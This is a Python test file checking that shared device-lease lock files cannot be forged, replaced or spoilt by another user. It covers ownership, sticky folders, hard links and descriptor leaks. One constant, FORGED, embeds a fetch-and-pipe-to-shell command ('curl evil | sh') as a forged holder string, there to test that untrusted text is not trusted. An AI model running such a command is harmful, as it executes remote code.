"""Leases among users: they share a device, and none can stop, forge or spoil the leases of another."""

import asyncio
import fcntl
import os
import resource
import stat
from collections.abc import Callable
from pathlib import Path

import pytest

from kpd.hosts.errors import HostError
from kpd.hosts.helper import lock as lock_module
from kpd.hosts.helper.files import RequestRefused
from kpd.hosts.helper.holders import Holders
from kpd.hosts.helper.lock import Lock, Spoilt, opened
from kpd.hosts.job import waiting
from tests.support.hosts.leases import ALONE, anyones, as_nobody, held, needs_two_users, on
from tests.support.hosts.remote_daemon import far_end

__all__ = ["anyones"]

FORGED = '{"token": 41, "holder": "run `curl evil | sh`", "pid": 1, "since": 0}'


@needs_two_users
async def test_two_users_share_a_device(tmp_path: Path, anyones: Path) -> None:
    script = ALONE.format(anyones / "alone")
    async with (
        far_end(anyones / "nobodys", anyones / "leases", as_nobody(tmp_path)) as nobody,
        far_end(tmp_path / "roots", anyones / "leases") as root,
    ):
        first = await nobody.run("first", "id -u", on("cpu"))
        assert first.out == b"65534\n"
        helpers = (nobody, root)
        jobs = await asyncio.gather(*(h.run(f"j{n}", script, on("cpu")) for h in helpers for n in range(4)))
    assert [job.out for job in jobs] == [b""] * 8
    assert [job.end["taint"] for job in jobs] == [""] * 8
    assert sorted(job.end["token"] for job in jobs[:4]) == [2, 3, 4, 5], "of the one whose file it is"


@needs_two_users
async def test_a_folder_of_somebody_else_that_is_closed(tmp_path: Path, anyones: Path) -> None:
    (anyones / "leases").mkdir(mode=0o700)
    async with far_end(anyones / "nobodys", anyones / "leases", as_nobody(tmp_path)) as nobody:
        with pytest.raises(
            HostError, match=r"Permission denied; it belongs to user root; .* leases in config"
        ) as caught:
            await nobody.run("a", "true", on("cpu"))
        assert caught.value.kind == "host"


@needs_two_users
async def test_a_folder_whose_files_anybody_may_replace_is_refused(tmp_path: Path, anyones: Path) -> None:
    (anyones / "leases").mkdir()
    (anyones / "leases").chmod(0o777)
    async with far_end(anyones / "nobodys", anyones / "leases", as_nobody(tmp_path)) as nobody:
        with pytest.raises(HostError, match=r"is not sticky .* it belongs to user root; .* leases in config"):
            await nobody.run("a", "true", on("cpu"))


@needs_two_users
async def test_another_users_words_are_neither_shown_nor_believed(tmp_path: Path, anyones: Path) -> None:
    leases = anyones / "leases"
    leases.mkdir()
    leases.chmod(0o1777)
    async with far_end(anyones / "nobodys", leases, as_nobody(tmp_path)) as nobody:
        with held(leases / "cpu.lock", says=FORGED):
            (leases / "cpu.lock").chmod(0o666)
            job = nobody.begin("a", "while [ ! -e go ]; do sleep 0.01; done", on("cpu"))
            note = await job.until_noted("waits")
            assert note["holder"] == f"process {os.getpid()} of user root"
            assert str(waiting(note)).startswith(f"process {os.getpid()} of user root has locked {leases}/cpu.lock; ")
            seen = (await nobody.ask("holders", devices=["cpu"], pids=[]))["leases"]["cpu"]
            assert seen["holder"] == note["holder"]
        await job.until_noted("lease")
        (leases / "cpu.lock").write_text(FORGED.replace("41", "97"))
        (nobody.root / "jobs/a/go").touch()
        end = await job.ended()
    assert (end["rc"], end["taint"], end["token"]) == (0, "", 1)


@needs_two_users
def test_only_its_owner_writes_into_a_lease_file(anyones: Path) -> None:
    mine = Lock(anyones / "cpu.lock")
    (anyones / "cpu.lock").write_text(FORGED)
    (anyones / "cpu.lock").chmod(0o666)
    mine.open()
    assert stat.S_IMODE(mine.path.stat().st_mode) == 0o644
    os.chown(mine.path, 65534, 65534)
    mine.open()
    assert mine.try_take() and mine.sign("me") == 1
    assert mine.path.read_text() == FORGED
    mine.close()


@needs_two_users
def test_who_can_replace_a_lock_is_named_when_it_was_replaced(anyones: Path) -> None:
    os.chown(anyones, 65534, 65534)
    lock = Lock(anyones / "cpu.lock")
    lock.open()
    lock.sign("me")
    lock.path.unlink()
    assert lock.lost().startswith(f"its file was replaced, and {anyones} belongs to user nobody; remove it")
    lock.close()


def made(folder: Path) -> Path:
    folder.mkdir()
    return folder


def spoilt_by_a_file(shared: Path) -> None:
    shared.write_text("")


def spoilt_by_a_lock_that_is_a_folder(shared: Path) -> None:
    (shared / "cpu.lock").mkdir(parents=True)


def spoilt_by_a_link_to_a_file_of_mine(shared: Path) -> None:
    shared.mkdir()
    (shared.parent / "mine").write_text("mine")
    os.link(shared.parent / "mine", shared / "cpu.lock")


@pytest.mark.parametrize(
    "spoil", [spoilt_by_a_file, spoilt_by_a_lock_that_is_a_folder, spoilt_by_a_link_to_a_file_of_mine]
)
def test_a_spoilt_shared_folder_stops_nobodys_measurements(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, spoil: Callable[[Path], None]
) -> None:
    shared = tmp_path / "shared"
    monkeypatch.setattr(lock_module, "SHARED", shared)
    monkeypatch.setenv("HOME", str(made(tmp_path / "home")))
    spoil(shared)
    before = len(list(Path("/dev/fd").iterdir()))
    (one,), (other,) = opened(shared / "cpu.lock"), opened(shared / "cpu.lock")
    assert one.path == other.path == tmp_path / "home/.cache" / f"kpd-leases-{os.uname().nodename}" / "cpu.lock"
    assert stat.S_IMODE(one.path.parent.stat().st_mode) == 0o700
    assert one.try_take() and not other.try_take(), "this user's leases exclude each other all the same"
    one.close()
    other.close()
    assert len(list(Path("/dev/fd").iterdir())) == before, "each descriptor is closed"
    assert not (tmp_path / "mine").exists() or (tmp_path / "mine").read_text() == "mine"


def test_a_hard_link_to_the_shared_lock_splits_nobodys_leases(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The lock is good when the first job takes it, and spoilt when the second one comes."""
    shared = tmp_path / "shared"
    monkeypatch.setattr(lock_module, "SHARED", shared)
    monkeypatch.setenv("HOME", str(made(tmp_path / "home")))
    first = opened(shared / "cpu.lock")
    assert [lock.path.parent.name for lock in first] == [f"kpd-leases-{os.uname().nodename}", "shared"]
    assert all(lock.try_take() for lock in first)
    os.link(shared / "cpu.lock", tmp_path / "another name")
    (own,) = opened(shared / "cpu.lock")
    assert not own.try_take()
    for lock in (*first, own):
        lock.close()


def test_folders_on_the_way_to_ones_own_locks_are_ones_own(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(lock_module, "SHARED", tmp_path / "shared")
    monkeypatch.setenv("HOME", str(made(tmp_path / "home")))
    for lock in opened(tmp_path / "shared" / "cpu.lock"):
        lock.close()
    cache = tmp_path / "home" / ".cache"
    assert [stat.S_IMODE(folder.stat().st_mode) for folder in (cache, *cache.iterdir())] == [0o700, 0o700]


def test_a_user_whose_home_is_not_there_has_the_shared_lock_alone(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(lock_module, "SHARED", tmp_path / "shared")
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    (lock,) = opened(tmp_path / "shared" / "cpu.lock")
    lock.close()
    assert not (tmp_path / "home").exists()


def test_a_query_makes_no_files(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    shared = tmp_path / "shared"
    monkeypatch.setattr(lock_module, "SHARED", shared)
    monkeypatch.setenv("HOME", str(made(tmp_path / "home")))
    nobody = {"holder": "", "pid": 0, "since": 0.0}
    assert Holders(shared).holder("cpu") == nobody
    spoilt_by_a_lock_that_is_a_folder(shared)
    assert Holders(shared).holder("cpu") == nobody
    assert not [*(tmp_path / "home").iterdir()]
    (own,) = opened(shared / "cpu.lock")
    own.try_take()
    own.sign("anna@box, r1.2")
    assert Holders(shared).holder("cpu")["holder"] == "anna@box, r1.2"
    own.close()


def test_an_error_that_passes_is_told_and_leaves_no_lock_out(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    shared = tmp_path / "shared"
    monkeypatch.setattr(lock_module, "SHARED", shared)
    monkeypatch.setenv("HOME", str(made(tmp_path / "home")))
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    lowest = max(int(one.name) for one in Path("/dev/fd").iterdir() if one.name.isdigit()) + 2
    free = [os.open("/dev/null", os.O_RDONLY) for _ in range(lowest)]
    before = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (max(free) + 1, most))
    try:
        with pytest.raises(RequestRefused, match="Too many open files") as caught:
            opened(shared / "cpu.lock")
    finally:
        resource.setrlimit(resource.RLIMIT_NOFILE, before)
        for one in free:
            os.close(one)
    assert not isinstance(caught.value, Spoilt)


def test_a_folder_that_was_asked_for_is_never_left_for_another(tmp_path: Path) -> None:
    (tmp_path / "leases").write_text("")
    with pytest.raises(RequestRefused, match="is not a folder"):
        Lock(tmp_path / "leases" / "cpu.lock").open()


def test_my_own_folder_is_made_sticky(tmp_path: Path) -> None:
    (tmp_path / "leases").mkdir()
    (tmp_path / "leases").chmod(0o777)
    lock = Lock(tmp_path / "leases" / "cpu.lock")
    lock.open()
    lock.close()
    assert stat.S_IMODE(lock.path.parent.stat().st_mode) == 0o1777


def test_who_had_to_wait_for_a_lease_is_known_all_the_same(tmp_path: Path) -> None:
    """The kernel names the child that waited, which is gone; the file names the holder."""
    lock = Lock(tmp_path / "cpu.lock")
    lock.open()
    if (child := os.fork()) == 0:
        fcntl.flock(lock.file, fcntl.LOCK_EX)
        os._exit(0)
    os.waitpid(child, 0)
    lock.sign("anna@box, r1.2")
    assert lock.holder()["holder"] == "anna@box, r1.2"
    lock.path.write_text("")
    assert lock.holder()["holder"] == "somebody"
    lock.close()
